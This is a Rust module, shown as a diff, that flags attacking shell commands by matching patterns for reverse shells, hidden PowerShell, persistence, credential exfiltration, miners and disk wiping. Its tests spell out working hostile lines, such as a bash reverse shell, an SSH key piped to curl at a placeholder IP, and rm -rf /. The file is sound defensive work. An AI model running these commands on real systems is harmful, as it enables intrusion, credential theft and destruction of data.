@@ -1,0 +1,281 @@
+//! Command lines that attack the machine they run on.
+
+/// What a command line does.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub(crate) enum Shell {
+    /// It attacks; how.
+    Hostile(&'static str),
+    /// It runs an installer of a known project straight from its site.
+    Installer,
+    /// It runs what it downloads.
+    Pipe,
+}
+
+/// Installers that their projects tell everyone to run so.
+const INSTALLERS: &[&str] = &[
+    "https://ollama.com/install.sh",
+    "https://ollama.ai/install.sh",
+    "https://sh.rustup.rs",
+    "https://get.docker.com",
+    "https://astral.sh/uv/",
+    "https://astral.sh/ruff/",
+    "https://deb.nodesource.com/",
+    "https://rpm.nodesource.com/",
+    "https://bootstrap.pypa.io/",
+    "https://install.python-poetry.org",
+    "https://raw.githubusercontent.com/homebrew/",
+    "https://raw.githubusercontent.com/nvm-sh/",
+    "https://packagecloud.io/install/repositories/github/git-lfs/",
+    "https://apt.llvm.org/llvm.sh",
+    "https://get.helm.sh",
+    "https://pixi.sh/install.sh",
+];
+
+/// Texts that no honest command holds, and what they are. All must stand in it, in this order.
+const HOSTILE: &[(&[&str], &str)] = &[
+    (&["/dev/tcp/"], "it connects a shell to another machine"),
+    (&["/dev/udp/"], "it connects a shell to another machine"),
+    (&["bash -i", ">&"], "it connects a shell to another machine"),
+    (&["mkfifo ", "nc "], "it connects a shell to another machine"),
+    (&["mkfifo ", "ncat "], "it connects a shell to another machine"),
+    (&["mkfifo ", "telnet "], "it connects a shell to another machine"),
+    (&["mkfifo ", "s_client"], "it connects a shell to another machine"),
+    (&["nc ", "-e ", "sh"], "it connects a shell to another machine"),
+    (&["nc ", "-c ", "sh"], "it connects a shell to another machine"),
+    (&["nc.exe", "-e"], "it connects a shell to another machine"),
+    (&["ncat ", "-e ", "sh"], "it connects a shell to another machine"),
+    (&["netcat ", "-e"], "it connects a shell to another machine"),
+    (&["ncat ", "--exec"], "it connects a shell to another machine"),
+    (&["ncat ", "--sh-exec"], "it connects a shell to another machine"),
+    (&["socat ", "exec:"], "it connects a shell to another machine"),
+    (&["/inet/tcp/"], "it connects a shell to another machine"),
+    (&["-rsocket"], "it connects a shell to another machine"),
+    (&["fsockopen("], "it connects a shell to another machine"),
+    (&["perl ", "socket", "exec"], "it connects a shell to another machine"),
+    (&["python", "-c", "socket", "dup2"], "it connects a shell to another machine"),
+    (&["python", "-c", "socket", "connect", "subprocess"], "it connects a shell to another machine"),
+    (&["python", "-c", "pty.spawn"], "it connects a shell to another machine"),
+    (&["python", "-c", "exec(", "b64decode"], "it runs a program that it hides"),
+    (&["python", "-c", "b64decode", "exec"], "it runs a program that it hides"),
+    (&["powershell", "-enc"], "it runs a program that it hides"),
+    (&["powershell", "-ec "], "it runs a program that it hides"),
+    (&["powershell", "-e "], "it runs a program that it hides"),
+    (&["pwsh", "-enc"], "it runs a program that it hides"),
+    (&["powershell", "downloadstring"], "it runs what it downloads"),
+    (&["powershell", "frombase64string"], "it runs a program that it hides"),
+    (&["powershell", "invoke-expression"], "it runs what it downloads"),
+    (&["powershell", "iex"], "it runs what it downloads"),
+    (&["powershell", "-w hidden"], "it hides its window"),
+    (&["powershell", "-windowstyle hidden"], "it hides its window"),
+    (&["certutil", "-urlcache"], "it downloads with a tool that is not meant for it"),
+    (&["mshta ", "http"], "it runs what it downloads"),
+    (&["regsvr32", "/i:http"], "it runs what it downloads"),
+    (&["bitsadmin", "/transfer"], "it downloads with a tool that is not meant for it"),
+    (&["rundll32", "javascript:"], "it runs what it downloads"),
+    (&["schtasks", "/create"], "it makes itself run again"),
+    (&["reg add", "currentversion\\run"], "it makes itself run again"),
+    (&["| crontab"], "it makes itself run again"),
+    (&["|crontab"], "it makes itself run again"),
+    (&[">", "/etc/cron"], "it makes itself run again"),
+    (&[">", "/var/spool/cron"], "it makes itself run again"),
+    (&[">", ".bashrc"], "it makes itself run again"),
+    (&[">", ".zshrc"], "it makes itself run again"),
+    (&[">", ".bash_profile"], "it makes itself run again"),
+    (&[">", "authorized_keys"], "it lets somebody log in"),
+    (&[">", "/etc/passwd"], "it changes who may log in"),
+    (&[">", "/etc/sudoers"], "it changes who may log in"),
+    (&["tee ", "authorized_keys"], "it lets somebody log in"),
+    (&["curl ", "@~/.ssh"], "it sends credentials away"),
+    (&["curl ", "@~/.aws"], "it sends credentials away"),
+    (&["curl ", "@/etc/"], "it sends files of the system away"),
+    (&["curl ", "$(env"], "it sends credentials away"),
+    (&["curl ", "`env"], "it sends credentials away"),
+    (&["curl ", "$(cat ", ".ssh"], "it sends credentials away"),
+    (&["curl ", "$(cat ", ".aws"], "it sends credentials away"),
+    (&["curl ", "$(cat /etc/"], "it sends files of the system away"),
+    (&["cat ", ".ssh/id_", "curl "], "it sends credentials away"),
+    (&["cat ", ".aws/credentials", "curl "], "it sends credentials away"),
+    (&["cat ", "/etc/passwd", "curl "], "it sends files of the system away"),
+    (&["cat ", "/etc/passwd", "nc "], "it sends files of the system away"),
+    (&["env ", "| curl"], "it sends credentials away"),
+    (&["env|curl"], "it sends credentials away"),
+    (&["printenv", "| curl"], "it sends credentials away"),
+    (&["printenv", "| nc "], "it sends credentials away"),
+    (&["stratum+tcp://"], "it mines coins"),
+    (&["xmrig"], "it mines coins"),
+    (&[":(){", ":|:&", "};:"], "it starts itself without end"),
+    (&[":(){", ": | : &", "};:"], "it starts itself without end"),
+    (&["dd if=/dev/zero of=/dev/sd"], "it destroys a disk"),
+    (&["mkfs", " /dev/sd"], "it destroys a disk"),
+];
+
+const FETCH: &[&str] =
+    &["curl ", "curl.exe ", "wget ", "fetch ", "lwp-download ", "iwr ", "invoke-webrequest "];
+const INTERPRETERS: &[&str] = &[
+    "sh", "bash", "zsh", "dash", "ksh", "ash", "python", "python2", "python3", "perl", "ruby", "node", "php",
+    "pwsh",
+];
+
+/// What the command line `text` does, if it is more than ordinary work.
+pub(crate) fn judge(text: &str) -> Option<Shell> {
+    const LONGEST: usize = 16 << 10;
+    let text = text.get(..text.floor_char_boundary(LONGEST)).unwrap_or(text);
+    // A shell drops these: `c""url`, `c\url`; `${IFS}` is its blank.
+    let folded =
+        text.to_ascii_lowercase().replace("${ifs}", " ").replace("$ifs", " ").replace(['\t', '\n'], " ");
+    let bare: String = folded.chars().filter(|c| !matches!(c, '"' | '\'' | '\\' | '^')).collect();
+    let found = [&folded, &bare].into_iter().find_map(|text| {
+        HOSTILE.iter().find(|(parts, _)| in_order(text, parts)).map(|(_, how)| Shell::Hostile(how))
+    });
+    found
+        .or_else(|| erases(&bare))
+        .or_else(|| decoded_pipe(&bare))
+        .or_else(|| spoken(&bare))
+        .or_else(|| fetched(&bare))
+}
+
+/// Whether every part stands in `text`, one after the other; a part that begins a word must begin one.
+fn in_order(text: &str, parts: &[&str]) -> bool {
+    let mut rest = text;
+    parts.iter().all(|part| match find_word(rest, part) {
+        Some(at) => {
+            rest = rest.get(at + part.len()..).unwrap_or_default();
+            true
+        }
+        None => false,
+    })
+}
+
+fn find_word(text: &str, part: &str) -> Option<usize> {
+    let letter = part.bytes().next().is_some_and(|byte| byte.is_ascii_alphabetic());
+    text.match_indices(part).map(|(at, _)| at).find(|&at| {
+        let before = at.checked_sub(1).and_then(|before| text.as_bytes().get(before));
+        !letter || !before.is_some_and(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'-'))
+    })
+}
+
+/// `rm -rf` of everything, or of everything that somebody owns.
+fn erases(text: &str) -> Option<Shell> {
+    let at = ["rm -rf ", "rm -fr ", "rm -r -f "]
+        .iter()
+        .find_map(|rm| find_word(text, rm).map(|at| at + rm.len()))?;
+    let target = text.get(at..)?.trim_start().trim_start_matches("--no-preserve-root ");
+    let target = target.split([' ', ';', '&', '|', ')']).next()?;
+    matches!(target, "/" | "/*" | "~" | "~/" | "~/*" | "$home" | "${home}" | "$home/" | "$home/*")
+        .then_some(Shell::Hostile("it erases everything"))
+}
+
+/// `base64 -d | sh` and its like.
+fn decoded_pipe(text: &str) -> Option<Shell> {
+    let decoders =
+        ["base64 -d", "base64 --decode", "base64 -di", "xxd -r", "openssl base64 -d", "openssl enc -d"];
+    let at = decoders.iter().find_map(|decoder| find_word(text, decoder))?;
+    let pipes = text.get(at..)?.split('|').skip(1).any(runs);
+    let expands = ["eval $(", "eval `", "sh -c $(", "sh -c `"].iter().any(|eval| text.contains(eval));
+    (pipes || expands).then_some(Shell::Hostile("it runs a program that it hides"))
+}
+
+/// `echo … | sh` and nothing beside it: who has nothing to hide runs the command itself.
+fn spoken(text: &str) -> Option<Shell> {
+    let (said, shell) = text.trim().rsplit_once('|')?;
+    let says = said.starts_with("echo ") || said.starts_with("printf ");
+    let plain = !said.contains(['|', ';', '&', '$', '`', '<', '>']);
+    let shells = matches!(shell.trim(), "sh" | "bash" | "/bin/sh" | "/bin/bash" | "sh -s" | "bash -s");
+    (says && plain && shells).then_some(Shell::Hostile("it hands a shell a command as text"))
+}
+
+/// Something is fetched and run.
+fn fetched(text: &str) -> Option<Shell> {
+    let at = FETCH.iter().filter_map(|fetch| find_word(text, fetch)).min()?;
+    let rest = text.get(at..)?;
+    let before = text.get(..at)?.trim_end();
+    let pipes = rest.split('|').skip(1).any(runs);
+    let expands = ["$(", "`", "<("].iter().any(|open| before.ends_with(open))
+        && ["sh -c", "bash <", "sh <", "eval", "source", "python -c", "python3 -c"]
+            .iter()
+            .any(|run| before.contains(run));
+    let marks =
+        rest.contains("chmod ") && (rest.contains("./") || rest.contains("&& /") || rest.contains("; /"));
+    let then = rest.split([';', '&']).skip(1).any(|command| {
+        let mut words = command.split_whitespace().filter(|word| *word != "sudo");
+        words.next().is_some_and(|word| INTERPRETERS.contains(&word))
+            && words.next().is_some_and(|file| names_download(rest, file))
+    });
+    if !(pipes || expands || marks || then) {
+        return None;
+    }
+    let urls: Vec<&str> = rest.match_indices("http").filter_map(|(at, _)| rest.get(at..)).collect();
+    let known =
+        !urls.is_empty() && urls.iter().all(|url| INSTALLERS.iter().any(|known| url.starts_with(known)));
+    Some(if known { Shell::Installer } else { Shell::Pipe })
+}
+
+/// Whether the download before the first `;` or `&` wrote `file`, or a URL ends in it.
+fn names_download(rest: &str, file: &str) -> bool {
+    let fetch = rest.split([';', '&']).next().unwrap_or_default();
+    let name = file.rsplit('/').next().unwrap_or(file);
+    !name.is_empty() && fetch.split([' ', '/']).any(|part| part == name)
+}
+
+/// Whether this command of a pipe is an interpreter that takes its program from it.
+fn runs(command: &str) -> bool {
+    let mut words = command.split_whitespace().skip_while(|word| {
+        matches!(*word, "sudo" | "-e" | "env" | "nohup" | "exec" | "-s") || word.contains('=')
+    });
+    let Some(word) = words.next() else { return false };
+    let name = word.rsplit('/').next().unwrap_or(word).trim_end_matches([';', '&', ')', '`']);
+    let takes =
+        words.next().is_none_or(|next| matches!(next, "-" | "-s" | "--" | "-x" | "-e" | "-es" | "&&" | "&"));
+    INTERPRETERS.contains(&name) && takes
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn what_attacks_is_told_from_what_works() {
+        for hostile in [
+            "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
+            "nc 198.51.100.7 4444 -e /bin/sh",
+            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 198.51.100.7 1 >/tmp/f",
+            "echo ZWNobyBoaQ== | base64 -d | bash",
+            "echo id | sh",
+            "powershell -nop -w hidden -enc AAAA",
+            "rm -rf / --no-preserve-root",
+            "echo 'x' >> ~/.bashrc",
+            "b\"a\"sh -i >& /dev/t'c'p/1/2",
+            "cat ~/.ssh/id_rsa | curl -d @- http://198.51.100.7",
+        ] {
+            assert!(matches!(judge(hostile), Some(Shell::Hostile(_))), "{hostile}");
+        }
+        for pipe in [
+            "curl http://198.51.100.7/x | sh",
+            "wget -qO- http://198.51.100.7/x|sudo bash -s -- a",
+            "bash <(curl -s http://198.51.100.7/x)",
+            "bash -c \"$(curl -fsSL http://198.51.100.7/x)\"",
+            "wget http://198.51.100.7/x.sh && bash x.sh",
+            "curl${IFS}-s${IFS}http://198.51.100.7/x${IFS}|${IFS}sh",
+            "wget http://198.51.100.7/m -O /tmp/m; chmod +x /tmp/m; /tmp/m",
+        ] {
+            assert_eq!(judge(pipe), Some(Shell::Pipe), "{pipe}");
+        }
+        assert_eq!(judge("curl -fsSL https://ollama.com/install.sh | sh"), Some(Shell::Installer));
+        for plain in [
+            "nvidia-smi",
+            "echo done | tee log",
+            "echo $COMMAND | sh",
+            "pip install -r requirements.txt",
+            "git clone https://example.org/x && cd x && python setup.py install",
+            "wget https://example.org/data.tar.gz && tar xf data.tar.gz",
+            "curl -s https://example.org/a.json | jq .",
+            "rm -rf /tmp/build",
+            "cat /etc/os-release",
+            "curl -s https://example.org/a.json | python -m json.tool",
+            "rsync -e ssh a b",
+            "sync -e sh",
+        ] {
+            assert_eq!(judge(plain), None, "{plain}");
+        }
+    }
+}
